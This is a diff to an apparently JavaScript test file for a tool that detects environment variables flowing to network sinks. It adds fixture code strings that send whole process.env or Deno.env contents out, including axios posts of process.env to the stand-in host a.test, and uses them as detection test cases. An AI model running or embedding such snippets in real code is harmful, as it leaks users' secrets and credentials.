@@ -13,6 +13,7 @@ describe("the environment", () => {
     `let s = ""; for (const k in process.env) s += process.env[k]; ${send("s")}`,
     `const { env } = process; ${send("JSON.stringify(env)")}`,
     `const p = globalThis["process"]; ${send("JSON.stringify(p.env)")}`,
+    `for (const name of Object.keys(Deno.env.toObject())) { ${send("Deno.env.get(name)")} }`,
     `require("axios").post("https://a.test", process.env);`,
     `require("axios").post("https://a.test", { e: process.env });`,
     send("JSON.stringify(Bun.env)"),
@@ -23,6 +24,9 @@ describe("the environment", () => {
   test.each([
     `process.env = { ...process.env, MODE: "x" }; ${send("process.env.SDK_ROOT")}`,
     `const env = require("env-var").from(process.env); ${send(`env.get("SDK_ROOT").asString()`)}`,
+    `exports.ask = (name) => { ${send("Deno.env.get(name)")} };`,
+    `exports.ask = async (identify) => { const who = await identify(process.env); ${send("who")} };`,
+    `class A { constructor(who) { this.who = who; } async go() { const it = await this.who(process.env); ${send("it")} } } exports.A = A;`,
   ])("of which one variable goes out: %s", (code) => {
     expect(foundIn(code).flows).not.toContain("src.env.bulk -> snk.net:body");
   });
